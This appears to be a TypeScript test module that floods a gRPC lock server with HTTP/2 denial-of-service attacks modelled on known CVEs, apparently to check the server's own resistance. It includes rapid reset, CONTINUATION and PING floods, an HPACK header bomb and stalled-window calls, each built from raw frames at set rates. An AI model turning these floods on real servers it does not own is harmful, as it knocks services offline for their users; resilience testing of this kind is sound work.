/** Frames that are cheap to send and dear to take, as the known floods of HTTP/2 are made (CVE-2019-9511 to 9518, CVE-2023-44487, CVE-2024-27983). */
import { constants } from 'node:http2';
import {
  callFields,
  END_HEADERS,
  END_STREAM,
  FRAME,
  type Frame,
  field,
  frameBytes,
  REMEMBERED_FIELD,
} from '../support/raw-http2-connection.js';
import type { Attack } from './attack.js';
import type { Assault } from './attacker.js';
import { greeting } from './slow-attacks.js';

const FLOOD_COUNT = 4;
/** Said by each connection in each turn: 4 connections, 100 turns a second, so 13 MB/s at the most. */
const TURN_BYTES = 32_768;
/** 2,000 broken calls a second of all four together. */
const CALLS_PER_TURN = 5;
/**
 * Whole calls come at a quarter of that: they cost what calls cost, and who may call can use up the
 * processor. No bound of the server's is against that; admission is.
 */
const WHOLE_CALLS_TURN_MS = 40;

const LOCK = '/ldlm.LDLM/Lock';
/** A TryLockRequest with a name of 10,000 bytes alone: field 1, length-delimited. */
const MESSAGE = Buffer.concat([
  Buffer.from('0000002713' + '0a904e', 'hex'),
  Buffer.alloc(10_000, 'a'),
]);

/** As many of that frame as fit into one turn. */
function turnOf(frame: Partial<Frame>): Buffer {
  const bytes = frameBytes(frame);
  return Buffer.concat(Array.from({ length: Math.floor(TURN_BYTES / bytes.length) }, () => bytes));
}

function repeating(frame: Partial<Frame>): Pick<Assault, 'everyTurn'> {
  const bytes = turnOf(frame);
  return { everyTurn: () => bytes };
}

/** Frames for streams that are new each time. */
function perStream(write: (streamId: number) => readonly Partial<Frame>[]) {
  return (turn: number) =>
    Buffer.concat(
      Array.from({ length: CALLS_PER_TURN }, (_, index) =>
        write(2 * (turn * CALLS_PER_TURN + index) + 1),
      )
        .flat()
        .map(frameBytes),
    );
}

function headers(streamId: number, ...fields: readonly Buffer[]): Frame {
  return {
    type: FRAME.headers,
    flags: END_HEADERS,
    streamId,
    payload: Buffer.concat([callFields(LOCK), ...fields]),
  };
}

function wholeCall(streamId: number): readonly Partial<Frame>[] {
  return [
    { ...headers(streamId), payload: callFields('/ldlm.LDLM/TryLock') },
    { streamId, flags: END_STREAM, payload: MESSAGE },
  ];
}

/** On a call that has begun, whose message never comes. */
const withCall = () => Buffer.concat([greeting, frameBytes(headers(1))]);

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

const CANCEL = uint32(constants.NGHTTP2_CANCEL);
const ONE_MORE_BYTE = uint32(1);
const PING: Partial<Frame> = { type: FRAME.ping, payload: Buffer.alloc(8) };
const SETTINGS: Partial<Frame> = { type: FRAME.settings };
/** All that may be sent to the client at one time, so that it is the connection that is full, not the window. */
const WIDE_WINDOW: Partial<Frame> = { type: FRAME.windowUpdate, payload: uint32(0x7fff_0000) };
const BIG_FIELD = field('bomb', 'x'.repeat(3_900), true);

function flood(what: string, assault: Omit<Assault, 'port' | 'count'>): Attack {
  return {
    what,
    assaults: [{ opening: () => greeting, ...assault, port: 'grpc', count: FLOOD_COUNT }],
  };
}

export const http2Attacks: Readonly<Record<string, Attack>> = {
  'rapid-reset': flood('calls that are reset at once', {
    everyTurn: perStream((streamId) => [
      headers(streamId),
      { type: FRAME.resetStream, streamId, payload: CANCEL },
    ]),
  }),
  'made-reset': flood('calls that make the server reset them', {
    everyTurn: perStream((streamId) => [
      headers(streamId),
      { type: FRAME.windowUpdate, streamId, payload: uint32(0) },
    ]),
  }),
  pings: flood('PING', repeating(PING)),
  'unread-pings': flood('PING, answers unread', { ...repeating(PING), isDeaf: true }),
  settings: flood('SETTINGS', repeating(SETTINGS)),
  'unread-settings': flood('SETTINGS, answers unread', { ...repeating(SETTINGS), isDeaf: true }),
  continuations: flood('CONTINUATION without end', {
    opening: () => Buffer.concat([greeting, frameBytes({ ...headers(1), flags: 0 })]),
    ...repeating({ type: FRAME.continuation, streamId: 1, payload: field('a', 'b') }),
  }),
  'empty-continuations': flood('empty CONTINUATION without end', {
    opening: () => Buffer.concat([greeting, frameBytes({ ...headers(1), flags: 0 })]),
    ...repeating({ type: FRAME.continuation, streamId: 1 }),
  }),
  'empty-data': flood('empty DATA', { opening: withCall, ...repeating({ streamId: 1 }) }),
  'empty-headers': flood('empty HEADERS', {
    everyTurn: perStream((streamId) => [{ type: FRAME.headers, flags: END_HEADERS, streamId }]),
  }),
  'window-updates': flood('WINDOW_UPDATE of one byte', {
    ...repeating({ type: FRAME.windowUpdate, payload: ONE_MORE_BYTE }),
  }),
  priorities: flood('PRIORITY', {
    ...repeating({ type: FRAME.priority, streamId: 1, payload: Buffer.from([0, 0, 0, 3, 1]) }),
  }),
  'unknown-frames': flood('frames of an unknown type', repeating({ type: 0xbe })),
  'header-bomb': flood('HPACK: a big field remembered, then named 100 times a call', {
    opening: () => Buffer.concat([greeting, frameBytes(headers(1, BIG_FIELD))]),
    everyTurn: (turn) =>
      perStream((streamId) => [
        headers(streamId, ...Array.from({ length: 100 }, () => REMEMBERED_FIELD)),
      ])(turn + 1),
  }),
  'open-calls': flood('calls whose message never comes', {
    turnMs: WHOLE_CALLS_TURN_MS,
    everyTurn: perStream((streamId) => [headers(streamId)]),
  }),
  'closed-window': flood('calls of 10 KB for whose answers there is never room', {
    turnMs: WHOLE_CALLS_TURN_MS,
    everyTurn: perStream(wholeCall),
  }),
  'unread-answers': flood('calls of 10 KB whose answers are not read', {
    isDeaf: true,
    turnMs: WHOLE_CALLS_TURN_MS,
    opening: () => Buffer.concat([greeting, frameBytes(WIDE_WINDOW)]),
    everyTurn: perStream(wholeCall),
  }),
};
